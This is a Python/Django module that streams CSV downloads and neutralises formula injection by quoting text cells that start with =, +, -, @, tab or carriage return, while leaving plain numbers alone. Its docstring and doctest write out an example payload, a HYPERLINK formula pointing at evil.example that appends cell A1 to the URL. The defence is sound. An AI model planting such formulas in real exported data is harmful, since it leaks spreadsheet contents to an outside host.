"""The one CSV writer of every download (annotations, judgements, scores, traces).

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and some
strip a leading tab or carriage return first), so a label, an item id or a username such as
``=HYPERLINK("https://evil.example/?"&A1, "Details")`` would run on the manager's machine when
the file is opened (CSV or formula injection). Following OWASP's guidance, :func:`neutralise`
prefixes such a text cell with a single quote, which spreadsheets show as text and never
evaluate. Numbers are left alone: a cell that is a plain decimal number (``-0.5``, ``+3``,
``-1.2e-05``) is no formula, and quoting it would turn every negative score into text.
Non-text values (``int``, ``float``, ``None``) cannot start a formula and pass unchanged.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator, Sequence

from django.http import StreamingHttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
CONTENT_TYPE = "text/csv; charset=utf-8"
ROWS_PER_CHUNK = 500

_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: object) -> object:
    """``value``, with a single quote in front if it is text a spreadsheet would evaluate.

    Parameters
    ----------
    value : object
        One cell.

    Returns
    -------
    object
        ``"'" + value`` for a string that starts with one of :data:`FORMULA_PREFIXES` and is
        not a plain decimal number; ``value`` itself otherwise.

    Examples
    --------
    >>> neutralise('=HYPERLINK("https://evil.example")')
    '\\'=HYPERLINK("https://evil.example")'
    >>> neutralise("-0.5"), neutralise("@alice"), neutralise(-2), neutralise("a=b")
    ('-0.5', "'@alice", -2, 'a=b')
    """
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def csv_chunks(
    rows: Iterable[Sequence[object]], *, rows_per_chunk: int = ROWS_PER_CHUNK
) -> Iterator[str]:
    """CSV text of ``rows`` (the header being the first), every cell :func:`neutralise`\\ d.

    Parameters
    ----------
    rows : iterable of sequences
        The lines of the file; ``None`` is written as an empty cell.
    rows_per_chunk : int
        Lines per yielded chunk: memory stays constant however many rows there are.

    Yields
    ------
    str
        Consecutive pieces of the file.
    """
    writer = csv.writer(_Line())
    lines: list[str] = []
    for row in rows:
        lines.append(writer.writerow([neutralise(value) for value in row]))
        if len(lines) == rows_per_chunk:
            yield "".join(lines)
            lines.clear()
    yield "".join(lines)


def csv_download(rows: Iterable[Sequence[object]], *, filename: str) -> StreamingHttpResponse:
    """Stream ``rows`` (header first) as a CSV attachment named ``filename``."""
    return StreamingHttpResponse(
        csv_chunks(rows),
        content_type=CONTENT_TYPE,
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )


class _Line:
    """A file-like object whose ``write`` hands the line back, for ``csv.writer``."""

    def write(self, line: str) -> str:
        return line
